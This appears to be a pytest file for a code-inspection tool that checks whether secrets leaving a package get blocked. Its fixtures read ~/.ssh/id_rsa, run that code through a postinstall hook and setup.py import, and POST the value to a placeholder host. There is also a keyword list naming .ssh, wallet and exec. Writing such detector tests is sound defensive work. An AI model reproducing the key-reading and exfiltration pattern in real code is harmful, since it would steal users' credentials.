"""Whichever secret it is and whichever way it leaves, it is a BLOCK; what stands in the source may go the same way."""

from pathlib import Path

import pytest

from support.inspection import Files, inspected

WAYS = Path(__file__).parent / "leaving_by"
KEY = {
    "a.py": "import os\ns = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
    "a.mjs": "import fs from 'fs';\nimport os from 'os';\nconst s = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\n",
}
PLAIN = {
    "a.py": "import os\ns = 'as it stands'\n",
    "a.mjs": "import fs from 'fs';\nimport os from 'os';\nconst s = 'as it stands';\n",
}
OTHERS = (".ssh", "write", "wallet", "exec", "cdn", "script")
"""In ways with these words there is more than `s` to tell."""


def ways(name: str) -> list[str]:
    lines = (WAYS / name).read_text().splitlines()
    return [line.replace("\\n", "\n").replace("\\\n", "\\n") for line in lines if not line.startswith("#")]


def started(name: str, begins: str, way: str) -> Files:
    return {
        "package.json": '{"type": "module", "scripts": {"postinstall": "node a.mjs"}}',
        "setup.py": "import a\n",
        name: begins + way + "\n",
    }


WAYS_OUT = [("a.py", way) for way in ways("python.txt")] + [("a.mjs", way) for way in ways("javascript.txt")]


@pytest.mark.parametrize(("name", "way"), WAYS_OUT)
def test_a_key_is_followed_out(name: str, way: str) -> None:
    assert "secrets_sent" in {chain.rule for chain in inspected(started(name, KEY[name], way)).chains}


@pytest.mark.parametrize(("name", "way"), [each for each in WAYS_OUT if not any(word in each[1] for word in OTHERS)])
def test_what_is_no_secret_may_leave(name: str, way: str) -> None:
    assert "secrets_sent" not in {chain.rule for chain in inspected(started(name, PLAIN[name], way)).chains}


@pytest.mark.parametrize("secret", ways("secrets.txt"))
def test_a_secret_is_known_however_it_is_come_by(secret: str) -> None:
    begins = "import requests\n\n\ndef send(x):\n    requests.post('https://a.invalid', json={'x': str(x)})\n\n\n"
    assert inspected(started("a.py", begins + secret + "\n", "send(s)")).verdict == "block"
